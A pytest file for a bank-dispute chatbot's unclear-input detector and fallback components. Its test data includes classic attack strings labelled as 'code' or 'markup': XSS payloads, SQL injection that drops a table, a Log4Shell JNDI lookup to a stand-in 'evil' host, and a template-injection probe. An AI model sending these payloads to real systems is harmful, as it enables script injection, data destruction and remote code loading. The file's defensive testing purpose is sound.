"""Markup, code, a bare URL or random characters: unclear input, whatever the classifier said."""

from __future__ import annotations

import pytest
from rasa.shared.nlu.training_data.message import Message

from bot.rasa.nlu.rasa_components import FallbackRescue, UnclearInputClassifier
from bot.rasa.nlu.unclear import unclear_reason


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("<img src=x onerror=alert(1)>", "markup"),
        ("<script>alert('x')</script>", "markup"),
        ("我在<b>华联</b>被扣了", "markup"),
        ("<!-- hello -->", "markup"),
        ("&lt;div&gt;", "markup"),
        ("https://example.com/a?b=1", "url"),
        ("www.example.cn", "url"),
        ("http://a.cn http://b.cn", "url"),
        ("'; DROP TABLE cases; --", "code"),
        ("1' OR '1'='1", "code"),
        ("${jndi:ldap://evil/x}", "code"),
        ("{{7*7}}", "code"),
        ("function(){return 1}", "code"),
        ("asdfghjkl", "noise"),
        ("sdkfjhsdkjf", "noise"),
        ("x7#kq2p9z", "noise"),
        ("!@#$%^&*", "noise"),
        ("jjjjjjjj", "noise"),
        # Pictures alone: the classifier once read "😭😭😭" as a new report and "👍" as "stop".
        ("😀😀😀", "emoji"),
        ("😭😭😭", "emoji"),
        ("👍", "emoji"),
        ("👍🏻", "emoji"),
        ("❤️", "emoji"),
    ],
)
def test_input_that_is_not_a_message(text: str, reason: str) -> None:
    assert unclear_reason(text) == reason


@pytest.mark.parametrize(
    "text",
    [
        "我被扣了两次",
        "3000",
        "1,299.00",
        "两千五",
        "1234",
        "88",
        "ok",
        "ICBC",
        "BOCOM",
        "Costco",
        "nihao",
        "hello",
        "iPhone15",
        "WS-20261120-0003",
        "POS failed but money deducted",
        "my card was charged twice",
        "POS机double charge了，ka卡被扣两次 help!!!",
        "看看这个链接 https://example.com 是不是骗子",
        "金额<3000",
        "好的👌",
        "谢谢🙏",
        "？？",
        "",
    ],
)
def test_messages_are_left_to_the_classifier(text: str) -> None:
    assert unclear_reason(text) is None


def parsed(text: str, intent: str, confidence: float, entities: list[dict]) -> Message:
    message = Message(data={"text": text})
    message.set("intent", {"name": intent, "confidence": confidence}, add_to_output=True)
    message.set("intent_ranking", [{"name": intent, "confidence": confidence}], add_to_output=True)
    message.set("entities", entities, add_to_output=True)
    return message


def test_the_component_overrides_a_confident_intent_and_drops_entities() -> None:
    """The widget incident: pasted HTML read as report_failed_charge at 0.82."""
    message = parsed(
        "<img src=x onerror=alert(1)>", "report_failed_charge", 0.82, [{"entity": "amount", "value": 1}]
    )
    (result,) = UnclearInputClassifier().process([message])
    assert result.get("intent") == {"name": "unclear_input", "confidence": 1.0}
    assert result.get("intent_ranking")[0]["name"] == "unclear_input"
    assert result.get("intent_ranking")[1]["name"] == "report_failed_charge"
    assert result.get("entities") == []


def test_the_component_leaves_ordinary_messages_alone() -> None:
    entities = [{"entity": "amount", "value": 3000}]
    message = parsed("被多扣了3000元", "report_misswipe", 0.91, entities)
    (result,) = UnclearInputClassifier().process([message])
    assert result.get("intent") == {"name": "report_misswipe", "confidence": 0.91}
    assert result.get("entities") == entities


def test_a_fallback_that_gives_a_fact_is_read_as_an_answer() -> None:
    message = parsed("时间记错了，是上周二", "nlu_fallback", 0.4, [{"entity": "date", "value": "2026-11-17"}])
    message.set(
        "intent_ranking", [{"name": "nlu_fallback", "confidence": 0.4}, {"name": "inform", "confidence": 0.2}]
    )
    (result,) = FallbackRescue().process([message])
    assert result.get("intent") == {"name": "inform", "confidence": 0.2}


def test_a_fallback_without_a_plain_request_stays_a_fallback() -> None:
    (result,) = FallbackRescue().process([parsed("嗯……这个嘛", "nlu_fallback", 0.4, [])])
    assert result.get("intent") == {"name": "nlu_fallback", "confidence": 0.4}


def test_a_confident_intent_is_not_read_again() -> None:
    (result,) = FallbackRescue().process([parsed("转人工", "greet", 0.9, [])])
    assert result.get("intent") == {"name": "greet", "confidence": 0.9}
